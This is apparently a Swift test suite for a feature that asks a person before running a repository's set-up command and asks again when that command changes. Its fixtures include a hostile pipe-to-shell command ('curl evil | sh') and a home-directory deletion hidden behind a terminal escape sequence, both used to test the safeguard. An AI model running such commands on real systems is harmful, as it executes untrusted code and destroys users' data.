import OrchCore
import OrchHome
import Testing

@Suite("Trust in a repository's commands")
struct RepositoryTrustTests {
    private let hello = RepositoryIdentity(host: "github.com", path: "octo/hello")
    private let setup = RepositoryCommand.shell("npm ci")
    private let now = Timestamp(milliseconds: 0)

    private func question(_ decision: RepositoryTrust) throws -> TrustQuestion {
        guard case .unanswered(let question) = decision else { throw Answered(decision: decision) }
        return question
    }

    private struct Answered: Error { let decision: RepositoryTrust }

    @Test func withoutACommandNothingIsAsked() { #expect(RepositoryTrust.decide(nil, of: hello, answers: []) == .nothingToRun) }

    @Test func anAnswerHoldsUntilTheCommandChanges() throws {
        let question = try question(RepositoryTrust.decide(setup, of: hello, answers: []))
        #expect(question.text == "github.com/octo/hello wants to run for each new worktree: npm ci" && !question.hasChanged)
        let yes = question.answered(true, at: now)
        #expect(RepositoryTrust.decide(setup, of: hello, answers: [yes]) == .trusted)
        let changed = RepositoryCommand.shell("npm ci; curl evil | sh")
        let again = try self.question(RepositoryTrust.decide(changed, of: hello, answers: [yes]))
        #expect(again.hasChanged && again.text.contains("has changed its set-up command to: npm ci; curl evil | sh"))
        let no = again.answered(false, at: now)
        #expect(RepositoryTrust.decide(changed, of: hello, answers: [yes, no]) == .refused)
        #expect(RepositoryTrust.decide(setup, of: hello, answers: [yes, no]) == .trusted)
        #expect(RepositoryTrust.decide(setup, of: hello, answers: [yes, question.answered(false, at: now)]) == .refused, "the newest counts")
    }

    @Test func anAnswerIsForOneRepository() throws {
        let yes = try question(RepositoryTrust.decide(setup, of: hello, answers: [])).answered(true, at: now)
        _ = try question(RepositoryTrust.decide(setup, of: RepositoryIdentity(host: "evil.com", path: "octo/hello"), answers: [yes]))
        _ = try question(RepositoryTrust.decide(setup, of: RepositoryIdentity(path: "/srv/hello"), answers: [yes]))
    }

    @Test(arguments: [
        "github.com/octo/hello", "https://github.com/Octo/Hello.git", "https://token@github.com/octo/hello/", "git@github.com:octo/hello.git",
        "ssh://git@ssh.github.com:443/octo/hello.git", "GitHub.com/octo/hello",
    ])
    func aPersonMayWriteTheRepositoryInAnyForm(text: String) {
        let entry = TrustEntry(repository: text, setup: nil, isAllowed: true, at: nil)
        #expect(RepositoryTrust.decide(setup, of: hello, answers: [entry]) == .trusted)
    }

    @Test func otherFormsOfTheCommandAreOtherCommands() {
        let digests = Set([
            RepositoryCommand.shell("a b").digest, RepositoryCommand.arguments(["a", "b"]).digest, RepositoryCommand.arguments(["a b"]).digest,
        ])
        #expect(digests.count == 3)
        // printf 'make\0' | sha256sum
        #expect(RepositoryCommand.arguments(["make"]).digest == "sha256:bb714e1ca03a6c4f9d9351caba65bdce22f03fa328640dffc36d1149340a3cf8")
    }

    @Test func aQuestionCannotFoolTheTerminal() throws {
        let question = try question(RepositoryTrust.decide(.shell("\u{1B}[2Krm -rf ~\nls"), of: hello, answers: []))
        #expect(!question.text.contains("\u{1B}") && !question.text.contains("\n"))
    }

    @Test func answersAreKeptInTheConfiguration() async throws {
        try await withFolder { folder in
            let file = HostConfigFile(path: "\(folder)/config.json", userHome: nil)
            let question = try question(RepositoryTrust.decide(setup, of: hello, answers: []))
            try file.record(question.answered(false, at: now))
            try file.record(question.answered(true, at: now))
            let answers = try file.read().config.trust
            #expect(answers == [question.answered(true, at: now)] && RepositoryTrust.decide(setup, of: hello, answers: answers) == .trusted)
        }
    }
}
